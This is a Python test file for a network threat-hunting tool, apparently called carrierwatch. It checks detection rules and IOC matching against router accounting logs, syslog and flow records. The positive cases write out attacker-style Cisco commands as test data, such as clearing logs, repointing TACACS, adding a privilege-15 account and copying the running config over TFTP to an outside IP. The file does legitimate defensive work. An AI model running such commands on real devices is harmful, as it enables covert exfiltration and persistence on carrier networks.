"""A positive and a negative case for every behaviour rule and for IOC matching (DuckDB engine)."""

from __future__ import annotations

import ipaddress

import pyarrow as pa
import pytest

from carrierwatch.detect.runner import ALL_RULES, Assets, register_inputs, run_detections
from carrierwatch.engine.duck import DuckEngine
from carrierwatch.findings import Finding
from carrierwatch.intel.indicators import Indicator
from carrierwatch.workspace import Allowlists

from .builders import aaa, cmds, flows, syslog

DEV = "10.0.1.1"
ALLOW = Allowlists(
    management_subnets=[ipaddress.ip_network("10.255.0.0/16")],
    aaa_servers=[ipaddress.ip_network("10.255.1.10/32")],
    nms=[ipaddress.ip_network("10.255.2.20/32")],
    file_servers=[ipaddress.ip_network("10.255.5.50/32")],
    device_subnets=[ipaddress.ip_network("10.0.0.0/16")],
)
EVIL = "45.61.134.134"


def run(tables: dict[str, pa.Table], indicators: list[Indicator] | None = None) -> list[Finding]:
    eng = DuckEngine()
    register_inputs(eng, {}, tables)
    assets = Assets()
    assets.add("pe1-nyc", ips=[DEV])
    assets.add("pe2-nyc", ips=["10.0.1.2"])
    try:
        return run_detections(eng, allow=ALLOW, assets=assets, indicators=indicators or [])
    finally:
        eng.close()


def rules_fired(findings: list[Finding]) -> dict[str, str]:
    return {f.rule_id: f.severity.value for f in findings}


CASES: list[tuple[str, dict[str, pa.Table], dict[str, pa.Table], str]] = [
    ("CW-HUNT-LOG-CLEAR", {"aaa": cmds(DEV, "x", "clear logging")}, {"aaa": cmds(DEV, "x", "show logging")}, "high"),
    ("CW-HUNT-PCAP",
     {"aaa": cmds(DEV, "x", "monitor capture mycap match ipv4 protocol tcp any any eq 49")},
     {"aaa": cmds(DEV, "x", "show monitor session all")}, "critical"),
    ("CW-HUNT-GUESTSHELL", {"aaa": cmds(DEV, "x", "guestshell run bash")},
     {"aaa": cmds(DEV, "x", "show guestshell")}, "high"),
    ("CW-HUNT-AAA-REPOINT", {"aaa": cmds(DEV, "x", "tacacs server TACSRV-B", f"address ipv4 {EVIL}")},
     {"aaa": cmds(DEV, "x", "interface Gi0/0/1", f"address ipv4 {EVIL}")}, "critical"),
    ("CW-HUNT-TUNNEL", {"aaa": cmds(DEV, "x", "interface Tunnel100", f"tunnel destination {EVIL}")},
     {"aaa": cmds(DEV, "x", "interface Gi0/0/1", "description uplink")}, "high"),
    ("CW-HUNT-NONSTD-MGMT-PORT", {"aaa": cmds(DEV, "x", "ip ssh port 22122 rotary 1")},
     {"aaa": cmds(DEV, "x", "ip ssh version 2")}, "high"),
    ("CW-HUNT-LOOPBACK-CHANGE", {"aaa": cmds(DEV, "x", "interface Loopback0", "ip address 10.0.9.9 255.255.255.255")},
     {"aaa": cmds(DEV, "x", "interface GigabitEthernet0/0/1", "ip address 10.1.1.1 255.255.255.0")}, "high"),
    ("CW-HUNT-MGMT-ACL-EDIT", {"aaa": cmds(DEV, "x", f"access-list 20 permit {EVIL}")},
     {"aaa": cmds(DEV, "x", "show access-lists 20")}, "high"),
    ("CW-HUNT-CONFIG-EXFIL", {"aaa": cmds(DEV, "x", f"copy running-config tftp://{EVIL}/r.cfg")},
     {"aaa": cmds(DEV, "x", "copy running-config scp://10.255.5.50/r.cfg")}, "critical"),
    ("CW-HUNT-LOCAL-ACCOUNT", {"aaa": cmds(DEV, "x", "username cisco_support privilege 15 secret 0 x")},
     {"aaa": cmds(DEV, "x", "show users")}, "critical"),
    ("CW-HUNT-WEBUI-IMPLANT",
     {"syslog": syslog([{"host_name": "pe1-nyc", "event_code": "WEBLOGIN_SUCCESS", "user_name": "cisco_tac_admin",
                         "raw": "%SEC_LOGIN-5-WEBLOGIN_SUCCESS: Login Success [user: cisco_tac_admin]"}])},
     {"syslog": syslog([{"host_name": "pe1-nyc", "event_code": "WEBLOGIN_SUCCESS", "user_name": "netops",
                         "raw": "%SEC_LOGIN-5-WEBLOGIN_SUCCESS: Login Success [user: netops]"}])}, "critical"),
    ("CW-HUNT-LOGGING-STOPPED",
     {"syslog": syslog([{"host_name": "pe1-nyc", "event_code": "LOGGINGHOST_STARTSTOP",
                         "message": "Logging to host 10.255.3.30 port 514 stopped - CLI initiated"}])},
     {"syslog": syslog([{"host_name": "pe1-nyc", "event_code": "LOGGINGHOST_STARTSTOP",
                         "message": "Logging to host 10.255.3.30 port 514 started - CLI initiated"}])}, "high"),
    ("CW-HUNT-ADMIN-LOGIN-OUTSIDE-MGMT",
     {"syslog": syslog([{"host_name": "pe1-nyc", "event_code": "LOGIN_SUCCESS", "source_ip": EVIL,
                         "user_name": "netops"}])},
     {"syslog": syslog([{"host_name": "pe1-nyc", "event_code": "LOGIN_SUCCESS", "source_ip": "10.255.0.12",
                         "user_name": "netops"}])}, "high"),
    ("CW-HUNT-AAA-TRAFFIC-UNLISTED",
     {"flows": flows([{"source_ip": DEV, "source_port": 30001, "destination_ip": EVIL, "destination_port": 49,
                       "network_iana_number": 6}])},
     {"flows": flows([{"source_ip": DEV, "source_port": 30001, "destination_ip": "10.255.1.10",
                       "destination_port": 49, "network_iana_number": 6}])}, "critical"),
    ("CW-HUNT-FILE-TRANSFER-OUT",
     {"flows": flows([{"source_ip": DEV, "source_port": 50000, "destination_ip": EVIL, "destination_port": 69,
                       "network_iana_number": 17}])},
     {"flows": flows([{"source_ip": DEV, "source_port": 50000, "destination_ip": "10.255.5.50",
                       "destination_port": 22, "network_iana_number": 6}])}, "critical"),
    ("CW-HUNT-TUNNEL-TRAFFIC",
     {"flows": flows([{"source_ip": DEV, "destination_ip": EVIL, "network_iana_number": 47}])},
     {"flows": flows([{"source_ip": DEV, "destination_ip": "10.0.1.2", "network_iana_number": 47}])}, "high"),
    ("CW-HUNT-SMART-INSTALL",
     {"flows": flows([{"source_ip": EVIL, "source_port": 40000, "destination_ip": DEV, "destination_port": 4786,
                       "network_iana_number": 6}])},
     {"flows": flows([{"source_ip": EVIL, "source_port": 40000, "destination_ip": DEV, "destination_port": 443,
                       "network_iana_number": 6}])}, "critical"),
    ("CW-HUNT-NONSTD-PORT-TRAFFIC",
     {"flows": flows([{"source_ip": EVIL, "source_port": 40000, "destination_ip": DEV, "destination_port": 57722,
                       "network_iana_number": 6}])},
     {"flows": flows([{"source_ip": "10.0.1.2", "source_port": 179, "destination_ip": DEV,
                       "destination_port": 51822, "network_iana_number": 6}])}, "high"),
    ("CW-HUNT-SNMP-NON-NMS",
     {"flows": flows([{"source_ip": "10.255.7.7", "source_port": 40000, "destination_ip": DEV,
                       "destination_port": 161, "network_iana_number": 17}])},
     {"flows": flows([{"source_ip": "10.255.2.20", "source_port": 40000, "destination_ip": DEV,
                       "destination_port": 161, "network_iana_number": 17}])}, "medium"),
]


def test_every_rule_has_a_case() -> None:
    assert {c[0] for c in CASES} == {r.rule_id for r in ALL_RULES}


@pytest.mark.parametrize(("rule_id", "positive", "negative", "severity"), CASES, ids=[c[0] for c in CASES])
def test_rule_positive_and_negative(rule_id: str, positive: dict[str, pa.Table], negative: dict[str, pa.Table],
                                    severity: str) -> None:
    fired = rules_fired(run(positive))
    assert fired.get(rule_id) == severity, fired
    assert rule_id not in rules_fired(run(negative))


def test_findings_name_the_device_and_point_at_evidence() -> None:
    found = [f for f in run({"aaa": cmds(DEV, "x", "clear logging")}) if f.rule_id == "CW-HUNT-LOG-CLEAR"]
    assert len(found) == 1
    assert found[0].device == "pe1-nyc"
    assert found[0].evidence[0].source == "acct.log" and found[0].evidence[0].line == 1


def test_secrets_in_command_evidence_are_masked() -> None:
    found = run({"aaa": cmds(DEV, "x", "username cisco_support privilege 15 secret 0 Sup3rS3cret")})
    texts = " ".join(e.text for f in found for e in f.evidence)
    assert "Sup3rS3cret" not in texts


def _ind(value: str, kind: str) -> Indicator:
    return Indicator(id="indicator--1", kind=kind, value=value, source="feed.json", attack=["T1071"],
                     actors=["Salt Typhoon"])


@pytest.mark.parametrize(
    ("indicator", "kind", "hit"),
    [(EVIL, "ipv4", True), ("45.61.134.0/24", "cidr4", True), ("45.61.135.0/24", "cidr4", False),
     ("203.0.113.9", "ipv4", False)],
)
def test_ioc_ip_and_cidr(indicator: str, kind: str, hit: bool) -> None:
    tables = {"flows": flows([{"source_ip": DEV, "source_port": 40000, "destination_ip": EVIL,
                               "destination_port": 443, "network_iana_number": 6}])}
    found = [f for f in run(tables, [_ind(indicator, kind)]) if f.rule_id == "CW-IOC-IP"]
    assert bool(found) is hit
    if hit:
        assert found[0].device == "pe1-nyc"
        assert found[0].actors == ["Salt Typhoon"] and "T1071" in found[0].attack
        assert found[0].extra["fields"] == ["flows.destination_ip"]


def test_ioc_ipv6_exact() -> None:
    v6 = "2001:41d0:700:65dc::f656:929f"
    tables = {"syslog": syslog([{"host_name": "pe1-nyc", "event_code": "LOGIN_FAILED", "source_ip": v6}])}
    assert [f for f in run(tables, [_ind(v6, "ipv6")]) if f.rule_id == "CW-IOC-IP"]
    assert not [f for f in run(tables, [_ind("2001:db8::1", "ipv6")]) if f.rule_id == "CW-IOC-IP"]


def test_ioc_in_command_text() -> None:
    found = run({"aaa": cmds(DEV, "x", f"tunnel destination {EVIL}")}, [_ind(EVIL, "ipv4")])
    ioc = [f for f in found if f.rule_id == "CW-IOC-IP"]
    assert ioc and ioc[0].extra["fields"] == ["aaa.command"]


def test_empty_inputs_give_no_findings() -> None:
    assert run({"syslog": syslog([]), "aaa": aaa([]), "flows": flows([])}) == []


def test_sftp_from_a_device_to_the_internet_but_not_to_internal_hosts() -> None:
    out = {"flows": flows([{"source_ip": DEV, "source_port": 50000, "destination_ip": EVIL, "destination_port": 22,
                            "network_iana_number": 6}])}
    assert rules_fired(run(out)).get("CW-HUNT-FILE-TRANSFER-OUT") == "critical"
    inside = {"flows": flows([{"source_ip": DEV, "source_port": 50000, "destination_ip": "10.0.1.2",
                               "destination_port": 22, "network_iana_number": 6}])}
    assert "CW-HUNT-FILE-TRANSFER-OUT" not in rules_fired(run(inside))
